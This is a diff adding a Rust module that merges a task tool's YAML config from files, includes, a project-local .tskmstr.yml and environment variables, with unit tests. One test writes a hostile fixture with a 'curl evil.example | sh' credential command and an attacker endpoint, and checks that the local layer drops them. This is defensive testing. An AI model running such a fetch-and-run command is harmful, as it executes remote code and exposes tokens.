@@ -0,0 +1,317 @@
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use anyhow::{anyhow, Context, Result};
+use log::debug;
+use serde_yaml::{Mapping, Value};
+
+use crate::config::AppConfig;
+
+/// The project-local config, found by walking up from the current directory
+pub const LOCAL_CONFIG_FILE: &str = ".tskmstr.yml";
+
+/// Environment variables starting with this override config values,
+/// `__` separating the levels, e.g. `TSKMSTR_FETCH__TIMEOUT_SECS=10`
+const ENV_PREFIX: &str = "TSKMSTR_";
+
+/// The settings a `.tskmstr.yml` and the environment can override; other `TSKMSTR_*`
+/// variables (e.g. a token in `TSKMSTR_GITHUB_TOKEN`) are left alone. A `.tskmstr.yml`
+/// comes with a cloned repository, so it can't add stores, credentials or includes: a
+/// credential's `command` would be run, and an `endpoint` would be sent the token
+const OVERRIDE_KEYS: &[&str] = &["debug", "default_store", "colors", "labels", "fetch"];
+
+/// The provider lists, whose entries are added to rather than replaced
+const PROVIDER_KEYS: &[&str] = &["github.com", "gitlab.com", "jira"];
+
+/// The config, and everything it was layered from
+pub struct LayeredConfig {
+    pub config: AppConfig,
+
+    /// the merged YAML the config was read from
+    pub resolved: Value,
+
+    /// the files and environment variables, in the order they were applied
+    pub sources: Vec<String>,
+}
+
+/// Later values win; the provider lists are appended to, so a personal config
+/// can add its issue stores to a shared one
+fn merge(base: &mut Value, over: Value, top_level: bool) {
+    match (base, over) {
+        (Value::Mapping(base), Value::Mapping(over)) => {
+            for (key, value) in over {
+                let append = top_level && key.as_str().is_some_and(|k| PROVIDER_KEYS.contains(&k));
+                match (base.get_mut(&key), value) {
+                    (Some(Value::Sequence(existing)), Value::Sequence(more)) if append => {
+                        existing.extend(more)
+                    }
+                    (Some(existing), value) => merge(existing, value, false),
+                    (None, value) => {
+                        base.insert(key, value);
+                    }
+                }
+            }
+        }
+        (base, over) => *base = over,
+    }
+}
+
+/// The layer a YAML error is in, so `config check` can point at it
+#[derive(Debug)]
+pub struct LayerFile(pub PathBuf);
+
+impl fmt::Display for LayerFile {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        write!(f, "Failed to load file {}", self.0.display())
+    }
+}
+
+/// Read a file, and the files it `include:`s (relative to it), before it
+fn read_layer(file: &Path, sources: &mut Vec<String>, stack: &mut Vec<PathBuf>) -> Result<Value> {
+    let canonical = file.canonicalize().unwrap_or_else(|_| file.to_path_buf());
+    if stack.contains(&canonical) {
+        return Err(anyhow!("{} includes itself", file.display()));
+    }
+
+    let contents = std::fs::read_to_string(file)
+        .with_context(|| format!("Failed to open file {}", file.display()))?;
+    let mut value: Value =
+        serde_yaml::from_str(&contents).with_context(|| LayerFile(file.to_path_buf()))?;
+
+    let includes = match &mut value {
+        Value::Mapping(m) => m.remove("include"),
+        Value::Null => None,
+        _ => return Err(anyhow!("{} is not a YAML mapping", file.display())),
+    };
+    let includes: Vec<String> = match includes {
+        None => Vec::new(),
+        Some(Value::String(one)) => vec![one],
+        Some(value) => serde_yaml::from_value(value).with_context(|| {
+            format!("{}: include is a file, or a list of files", file.display())
+        })?,
+    };
+
+    let dir = file.parent().unwrap_or(Path::new("."));
+    let mut layered = Value::Mapping(Mapping::new());
+
+    stack.push(canonical);
+    for include in includes {
+        let path = dir.join(shellexpand::tilde(&include).as_ref());
+        debug!("{} includes {}", file.display(), path.display());
+        let included = read_layer(&path, sources, stack)?;
+        merge(&mut layered, included, true);
+    }
+    stack.pop();
+
+    sources.push(file.display().to_string());
+    merge(&mut layered, value, true);
+    Ok(layered)
+}
+
+/// Read the merged YAML as the config. It goes back through text, as a file is read, so
+/// plain scalars such as `close_transition_id: 31` (or `TSKMSTR_DEFAULT_STORE=1`) can
+/// still be read into strings; `from_value` only reads a string from a YAML string
+fn config_from_value(value: &Value) -> Result<AppConfig, serde_yaml::Error> {
+    serde_yaml::from_str(&serde_yaml::to_string(value)?)
+}
+
+/// The nearest `.tskmstr.yml` in the current directory or above it
+pub fn find_local_config() -> Option<PathBuf> {
+    let cwd = std::env::current_dir().ok()?;
+    cwd.ancestors()
+        .map(|dir| dir.join(LOCAL_CONFIG_FILE))
+        .find(|file| file.is_file())
+}
+
+/// A project's `.tskmstr.yml`, keeping only the settings it can override
+fn read_local_layer(file: &Path, sources: &mut Vec<String>) -> Result<Value> {
+    let contents = std::fs::read_to_string(file)
+        .with_context(|| format!("Failed to open file {}", file.display()))?;
+    let value: Value =
+        serde_yaml::from_str(&contents).with_context(|| LayerFile(file.to_path_buf()))?;
+
+    let mut kept = Mapping::new();
+    match value {
+        Value::Mapping(settings) => {
+            for (key, value) in settings {
+                match key.as_str() {
+                    Some(name) if OVERRIDE_KEYS.contains(&name) => {
+                        kept.insert(key, value);
+                    }
+                    name => eprintln!(
+                        "Warning: {}: `{}` is ignored, a {} can only set {}",
+                        file.display(),
+                        name.unwrap_or("?"),
+                        LOCAL_CONFIG_FILE,
+                        OVERRIDE_KEYS.join(", ")
+                    ),
+                }
+            }
+        }
+        Value::Null => {}
+        _ => return Err(anyhow!("{} is not a YAML mapping", file.display())),
+    }
+
+    sources.push(file.display().to_string());
+    Ok(Value::Mapping(kept))
+}
+
+/// `TSKMSTR_COLORS__TITLE=red` -> `colors: { title: red }`, the value read as YAML
+fn env_overrides(sources: &mut Vec<String>) -> Value {
+    let mut overrides = Value::Mapping(Mapping::new());
+
+    let mut vars: Vec<(String, String)> = std::env::vars()
+        .filter(|(name, _)| name.starts_with(ENV_PREFIX))
+        .collect();
+    vars.sort();
+
+    for (name, raw) in vars {
+        let path: Vec<String> = name[ENV_PREFIX.len()..]
+            .split("__")
+            .map(|key| key.to_lowercase())
+            .collect();
+        if !OVERRIDE_KEYS.contains(&path[0].as_str()) || path.iter().any(|key| key.is_empty()) {
+            continue;
+        }
+
+        let value = serde_yaml::from_str(&raw).unwrap_or(Value::String(raw));
+        let nested = path.iter().rev().fold(value, |inner, key| {
+            let mut m = Mapping::new();
+            m.insert(Value::from(key.as_str()), inner);
+            Value::Mapping(m)
+        });
+
+        sources.push(format!("${}", name));
+        merge(&mut overrides, nested, false);
+    }
+
+    overrides
+}
+
+/// The config file, the files it includes, the project-local `.tskmstr.yml` and then
+/// the `TSKMSTR_*` environment variables, merged in that order
+pub fn load_layered_config(config_file: &Path) -> Result<LayeredConfig> {
+    let mut sources = Vec::new();
+    let mut resolved = read_layer(config_file, &mut sources, &mut Vec::new())?;
+
+    if let Some(local) = find_local_config() {
+        let layer = read_local_layer(&local, &mut sources)?;
+        merge(&mut resolved, layer, true);
+    }
+
+    let overrides = env_overrides(&mut sources);
+    merge(&mut resolved, overrides, true);
+
+    let config = config_from_value(&resolved)
+        .with_context(|| format!("Failed to load the config from {}", sources.join(", ")))?;
+
+    Ok(LayeredConfig {
+        config,
+        resolved,
+        sources,
+    })
+}
+
+/// Print the config file as written, or the layered config with where it came from
+pub fn show_config(config_file: &Path, resolved: bool) -> Result<()> {
+    if !resolved {
+        let contents = std::fs::read_to_string(config_file)
+            .with_context(|| format!("Failed to open file {}", config_file.display()))?;
+        print!("{}", contents);
+        return Ok(());
+    }
+
+    let layered = load_layered_config(config_file)?;
+    println!("# merged from, in order:");
+    for source in &layered.sources {
+        println!("#   {}", source);
+    }
+    print!("{}", serde_yaml::to_string(&layered.resolved)?);
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn yaml(text: &str) -> Value {
+        serde_yaml::from_str(text).unwrap()
+    }
+
+    #[test]
+    fn mappings_merge_and_later_values_win() {
+        let mut base = yaml("colors: { title: blue, tags: green }\nfetch: { timeout_secs: 30 }");
+        merge(&mut base, yaml("colors: { title: red }\ndebug: true"), true);
+
+        assert_eq!(
+            base,
+            yaml("colors: { title: red, tags: green }\nfetch: { timeout_secs: 30 }\ndebug: true")
+        );
+    }
+
+    #[test]
+    fn provider_lists_are_appended() {
+        let mut base = yaml("github.com: [{ provider_id: a }]\njira: [{ provider_id: j }]");
+        merge(&mut base, yaml("github.com: [{ provider_id: b }]"), true);
+
+        assert_eq!(
+            base,
+            yaml(
+                "github.com: [{ provider_id: a }, { provider_id: b }]\njira: [{ provider_id: j }]"
+            )
+        );
+    }
+
+    #[test]
+    fn other_lists_are_replaced() {
+        let mut base = yaml("labels: { priority_labels: [a, b] }");
+        merge(&mut base, yaml("labels: { priority_labels: [c] }"), true);
+        assert_eq!(base, yaml("labels: { priority_labels: [c] }"));
+
+        // only at the top level are the providers' lists appended
+        let mut base = yaml("x: { jira: [a] }");
+        merge(&mut base, yaml("x: { jira: [b] }"), true);
+        assert_eq!(base, yaml("x: { jira: [b] }"));
+    }
+
+    #[test]
+    fn a_local_layer_only_overrides_settings() {
+        let dir = tempfile::tempdir().unwrap();
+        let local = dir.path().join(LOCAL_CONFIG_FILE);
+        std::fs::write(
+            &local,
+            "default_store: A\n\
+             include: evil.yml\n\
+             github.com:\n\
+             \x20 - endpoint: https://evil.example\n\
+             \x20   credential: { command: 'curl evil.example | sh' }\n",
+        )
+        .unwrap();
+
+        let layer = read_local_layer(&local, &mut Vec::new()).unwrap();
+        assert_eq!(layer, yaml("default_store: A"));
+    }
+
+    #[test]
+    fn the_sample_config_loads() {
+        let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("sample/tskmstr.config.yml");
+        let layer = read_layer(&sample, &mut Vec::new(), &mut Vec::new()).unwrap();
+
+        let config = config_from_value(&layer).unwrap();
+        let jira = &config.jira[0].projects[0];
+        assert_eq!(jira.close_transition_id.as_deref(), Some("31"));
+    }
+
+    #[test]
+    fn numbers_are_read_into_strings() {
+        let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("sample/tskmstr.config.yml");
+        let mut layer = read_layer(&sample, &mut Vec::new(), &mut Vec::new()).unwrap();
+        // as `TSKMSTR_DEFAULT_STORE=1` and `TSKMSTR_FETCH__TIMEOUT_SECS=5` are read
+        let env = serde_yaml::from_str("default_store: 1\nfetch: { timeout_secs: 5 }").unwrap();
+        merge(&mut layer, env, true);
+
+        let config = config_from_value(&layer).unwrap();
+        assert_eq!(config.default_store.as_deref(), Some("1"));
+        assert_eq!(config.fetch.timeout_secs, 5);
+    }
+}